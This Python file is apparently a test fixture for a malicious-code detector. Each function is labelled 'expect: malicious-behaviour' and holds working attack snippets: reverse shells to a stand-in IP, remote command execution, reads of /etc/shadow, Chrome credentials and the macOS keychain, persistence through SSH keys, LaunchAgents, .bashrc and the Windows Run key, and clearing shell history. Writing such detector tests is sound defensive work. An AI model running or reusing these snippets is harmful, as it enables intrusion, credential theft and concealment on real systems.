import os
import socket
import subprocess
import winreg
from pathlib import Path


def opened() -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("203.0.113.9", 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    subprocess.call(["/bin/sh", "-i"])  # expect: malicious-behaviour


def obeyed() -> None:
    connection = socket.create_connection(("203.0.113.9", 4444))
    command = connection.recv(1024).decode()
    subprocess.run(command, shell=True)  # expect: malicious-behaviour


def taken() -> str:
    return Path("/etc/shadow").read_text()  # expect: malicious-behaviour


def browser() -> bytes:
    path = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
    with open(path, "rb") as file:  # expect: malicious-behaviour
        return file.read()


def shell() -> None:
    os.system("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")  # expect: malicious-behaviour


def dumped() -> bytes:
    return subprocess.run(["security", "dump-keychain", "-d"], capture_output=True).stdout  # expect: malicious-behaviour


def dumped_at(file: str) -> str:
    return os.popen(f"security dump-keychain {file}").read()  # expect: malicious-behaviour


def kept(account: str) -> bytes:
    command = ["/usr/bin/security", "find-generic-password", "-s", "Chrome Safe Storage", "-a", account, "-w"]
    return subprocess.run(command, capture_output=True).stdout  # expect: malicious-behaviour


def stay() -> None:
    keys = Path.home() / ".ssh" / "authorized_keys"
    keys.write_text("ssh-ed25519 AAAA x@y\n")  # expect: malicious-behaviour
    agent = Path.home().joinpath("Library/LaunchAgents/io.x.plist")
    agent.write_bytes(b"")  # expect: malicious-behaviour
    with Path("~/.bashrc").expanduser().open("a") as file:  # expect: malicious-behaviour
        file.write("\n(nohup /tmp/.x &)\n")
    run = r"Software\Microsoft\Windows\CurrentVersion\Run"
    with winreg.OpenKey(winreg.HKEY_CURRENT_USER, run, 0, winreg.KEY_SET_VALUE) as key:
        winreg.SetValueEx(key, "upd", 0, winreg.REG_SZ, "x.exe")  # expect: malicious-behaviour
    open(os.path.expanduser("~/.bash_history"), "w").close()  # expect: malicious-behaviour
